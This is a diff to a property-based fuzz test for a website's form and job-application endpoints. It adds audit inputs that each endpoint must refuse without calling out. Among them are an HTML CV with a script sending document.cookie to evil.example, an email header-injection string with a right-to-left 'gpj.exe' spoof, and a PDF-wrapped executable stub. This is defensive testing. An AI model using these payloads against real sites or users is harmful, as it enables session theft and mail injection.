@@ -1,12 +1,11 @@
-import { readdirSync, existsSync } from "node:fs"
 import http from "node:http"
 import https from "node:https"
 import net from "node:net"
-import path from "node:path"
 import fc from "fast-check"
 import type { AnySchema } from "yup"
 import { LOCALE_CODES } from "../src/config/locales"
 import { DATA_FORMS, HUBSPOT_FORMS, WEB_TO_LEAD_FORMS, type FormDefinition } from "./lib/forms/definitions"
+import { endpoints } from "./test-support/endpoints"
 
 /**
  * Every endpoint in netlify/functions (any function with a path) gets at least 1,000 malformed or
@@ -14,39 +13,8 @@ import { DATA_FORMS, HUBSPOT_FORMS, WEB_TO_LEAD_FORMS, type FormDefinition } fro
  * content types, garbage query strings. It must answer every one, below 500, without throwing and
  * without calling anything outside (fetch, HTTP, sockets). Endpoints added later are found here.
  */
-const FUNCTIONS_DIR = path.join(__dirname, "functions")
 const RUNS_PER_ENDPOINT = 1000
 const SEED = 20261122
-
-type Handler = (request: Request, context: unknown) => Promise<Response> | Response
-interface Endpoint {
-  name: string
-  path: string
-  handler: Handler
-}
-
-/** netlify/functions/{name}.mts and netlify/functions/{name}/{name|index}.mts, as Netlify finds them. */
-function functionFiles(): Array<{ name: string; file: string }> {
-  return readdirSync(FUNCTIONS_DIR, { withFileTypes: true }).flatMap((entry) => {
-    if (entry.isFile() && /\.m?ts$/.test(entry.name) && !entry.name.endsWith(".test.ts") && !entry.name.endsWith(".d.ts"))
-      return [{ name: entry.name.replace(/\.m?ts$/, ""), file: path.join(FUNCTIONS_DIR, entry.name) }]
-    if (!entry.isDirectory()) return []
-    const candidates = [`${entry.name}.mts`, `${entry.name}.ts`, "index.mts", "index.ts"].map((file) =>
-      path.join(FUNCTIONS_DIR, entry.name, file),
-    )
-    const file = candidates.find((candidate) => existsSync(candidate))
-    return file ? [{ name: entry.name, file }] : []
-  })
-}
-
-function endpoints(): Endpoint[] {
-  return functionFiles().flatMap(({ name, file }) => {
-    const module = require(file) as { default?: Handler; config?: { path?: string | string[] } }
-    const route = module.config?.path
-    if (typeof module.default !== "function" || !route) return []
-    return [{ name, path: (Array.isArray(route) ? route[0] : route).replace(/:[^/]+/g, "x"), handler: module.default }]
-  })
-}
 
 /** What the Netlify runtime hands a v2 function, minus anything that reaches outside. */
 function fakeContext(requestUrl: string) {
@@ -87,8 +55,13 @@ const hostileStrings = fc.oneof(
     "\u0000\uffff\ud800",
     "9".repeat(400),
     "a".repeat(100_000),
+    // Issue 19's audit: control characters and bidi overrides, an ad click's landing URL.
+    "Jansen\u0000 Transport\u001b[31m\u202Egpj.exe\r\nBcc: x@evil.example\u2066",
+    `https://www.fleetlane.example/nl/contact/?utm_source=google&gclid=${"EAIaIQobChMI".repeat(200)}`,
   ),
 )
+/** Issue 19's audit: consent as "true" or [1], text as true or 1e308. */
+const auditValues = fc.constantFrom<unknown>("true", [1], true, 1e308, { toString: "x" })
 const hostileJson = fc.oneof(
   fc.json(),
   fc.jsonValue().map((value) => JSON.stringify(value)),
@@ -106,7 +79,66 @@ const hostileJson = fc.oneof(
     }),
   fc.record({ formId: hostileStrings, locale: hostileStrings, values: fc.anything() }).map((value) => JSON.stringify(value)),
 )
-const bodies = fc.oneof(hostileStrings, hostileJson, fc.uint8Array({ maxLength: 4096 }))
+/**
+ * Issue 19's audit of the forms and applications: a calculator lead with invented numbers and an
+ * invented haul type, "call me by phone" without a phone and an extension with letters, one file
+ * attached twice, an upload started without the form page's token, a PDF header before a program,
+ * an HTML CV with a script.
+ */
+const FILE_ID = "6b1f4f4e-7d1c-4b0e-9a53-2f1c9d0e8a77"
+const formsAuditBodies = fc.constantFrom(
+  JSON.stringify({
+    formId: "calculator",
+    locale: "nl",
+    values: {
+      company: "Jansen",
+      first_name: "Jan",
+      last_name: "Jansen",
+      email: "jan@example.nl",
+      phone: "06 1234 5678",
+      privacy: true,
+      calculation: {
+        drivers: ["costs"],
+        assets: ["e-Reefer"],
+        haul_type: "Invented",
+        frequency: "daily",
+        infrastructure: ["none"],
+        hours: 2000,
+        diesel_total: 999999,
+      },
+    },
+    context: { pageUri: "https://www.fleetlane.example/nl/e-reefer-calculator/", pageName: "Calculator" },
+  }),
+  JSON.stringify({
+    form_id: "ca_contact",
+    language: "en-ca",
+    branch: "CA01",
+    department: "All",
+    first_name: "Sam",
+    last_name: "Lee",
+    email: "sam@example.ca",
+    phone: "",
+    ext: "12a",
+    callback: "Phone",
+    feedback: "Call me",
+    privacy: true,
+  }),
+  JSON.stringify({
+    formId: "job_application_vacancy",
+    locale: "nl",
+    values: {
+      jobRequisitionId: "JR-1",
+      fileList: [
+        { fileId: FILE_ID, name: "cv.pdf", size: 1000 },
+        { fileId: FILE_ID, name: "cv.pdf", size: 1000 },
+      ],
+    },
+  }),
+  JSON.stringify({ name: "cv.pdf", size: 5_242_880 }),
+  `%PDF-1.7\nMZ\u0090\u0000\u0003PE\u0000\u0000\n%%EOF\n`,
+  "<html><body><h1>CV</h1><script>location='https://evil.example/?'+document.cookie</script></body></html>",
+)
+const bodies = fc.oneof(hostileStrings, hostileJson, fc.uint8Array({ maxLength: 4096 }), formsAuditBodies)
 const queries = fc.oneof(
   fc.dictionary(fc.string(), fc.string()).map((params) => new URLSearchParams(params).toString()),
   fc
@@ -121,6 +153,9 @@ const requests = fc.record({
   method: fc.constantFrom("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"),
   query: queries,
   body: bodies,
+  origin: fc.constantFrom(undefined, "https://attacker.example", "null"),
+  // Issue 19's audit: one Idempotency-Key reused with different bodies.
+  idempotencyKey: fc.constantFrom(undefined, "audit-reused-key-0000000001"),
   contentType: fc.constantFrom(
     "application/json",
     "application/json; charset=utf-8",
@@ -163,13 +198,17 @@ describe.each(found.map((endpoint) => [endpoint.path, endpoint] as const))("%s w
     `answers ${RUNS_PER_ENDPOINT} malformed requests below 500, without throwing or calling out`,
     async () => {
       await fc.assert(
-        fc.asyncProperty(requests, async ({ method, query, body, contentType }) => {
+        fc.asyncProperty(requests, async ({ method, query, body, contentType, origin, idempotencyKey }) => {
           outsideCalls.length = 0
           const requestUrl = `http://localhost${endpoint.path}?${query}`
           const withBody = method !== "GET" && method !== "HEAD"
           const request = new Request(requestUrl, {
             method,
-            headers: contentType ? { "content-type": contentType } : {},
+            headers: {
+              ...(contentType ? { "content-type": contentType } : {}),
+              ...(origin ? { origin } : {}),
+              ...(idempotencyKey ? { "idempotency-key": idempotencyKey } : {}),
+            },
             body: withBody ? body : undefined,
           })
           const response = await endpoint.handler(request, fakeContext(requestUrl))
@@ -193,16 +232,25 @@ describe.each(found.map((endpoint) => [endpoint.path, endpoint] as const))("%s w
  * these is valid: each must be refused with a 4xx, and nothing stored or sent.
  */
 const RUNS_PER_FORM = 200
-const PAGE = { pageUri: "https://www.fleetlane.example/en/", pageName: "Fleetlane" }
+/** A page, or (issue 19's audit) an ad click's landing URL past 2,048 characters. */
+const pages = fc.constantFrom(
+  { pageUri: "https://www.fleetlane.example/en/", pageName: "Fleetlane" },
+  { pageUri: `https://www.fleetlane.example/en/?utm_source=google&gclid=${"EAIaIQobChMI".repeat(200)}`, pageName: "Fleetlane" },
+)
 
-type Envelope = (formId: string, locale: string, values: unknown) => Record<string, unknown>
+type Page = { pageUri: string; pageName: string }
+type Envelope = (formId: string, locale: string, values: unknown, page: Page) => Record<string, unknown>
 const SUBMISSION_ENDPOINTS: Array<{ path: string; forms: Readonly<Record<string, FormDefinition<never>>>; envelope: Envelope }> = [
   {
     path: "/api/submit-hubspot-data",
     forms: HUBSPOT_FORMS,
-    envelope: (formId, locale, values) => ({ formId, locale, values, context: PAGE }),
+    envelope: (formId, locale, values, page) => ({ formId, locale, values, context: page }),
   },
-  { path: "/api/send-data-form", forms: DATA_FORMS, envelope: (formId, locale, values) => ({ formId, locale, values, context: PAGE }) },
+  {
+    path: "/api/send-data-form",
+    forms: DATA_FORMS,
+    envelope: (formId, locale, values, page) => ({ formId, locale, values, context: page }),
+  },
   {
     path: "/api/web-to-lead",
     forms: WEB_TO_LEAD_FORMS,
@@ -218,7 +266,7 @@ interface SchemaDescription {
 
 /** Hostile values in the shape of a schema: objects keep their keys (any of them may be missing), lists their items. */
 function shapedLike(schema: SchemaDescription): fc.Arbitrary<unknown> {
-  const hostile = fc.oneof(fc.anything(), hostileStrings)
+  const hostile = fc.oneof(fc.anything(), hostileStrings, auditValues)
   if (schema.type === "object" && schema.fields) return fc.oneof(hostile, valuesLike(schema.fields))
   if (schema.type === "array" && schema.innerType) return fc.oneof(hostile, fc.array(shapedLike(schema.innerType), { maxLength: 4 }))
   return hostile
@@ -247,13 +295,13 @@ describe.each(formCases)("%s, form %s, with hostile values", (route, formId, sch
       if (!endpoint) throw new Error(`no endpoint at ${route}`)
       let reachedSchema = 0
       await fc.assert(
-        fc.asyncProperty(fc.constantFrom(...LOCALE_CODES), valuesLike(schema.fields ?? {}), async (locale, values) => {
+        fc.asyncProperty(fc.constantFrom(...LOCALE_CODES), valuesLike(schema.fields ?? {}), pages, async (locale, values, page) => {
           outsideCalls.length = 0
           const requestUrl = `http://localhost${route}`
           const request = new Request(requestUrl, {
             method: "POST",
             headers: { "content-type": "application/json" },
-            body: JSON.stringify(envelope(formId, locale, values)),
+            body: JSON.stringify(envelope(formId, locale, values, page)),
           })
           const response = await endpoint.handler(request, fakeContext(requestUrl))
           expect(response.status).toBeGreaterThanOrEqual(400)
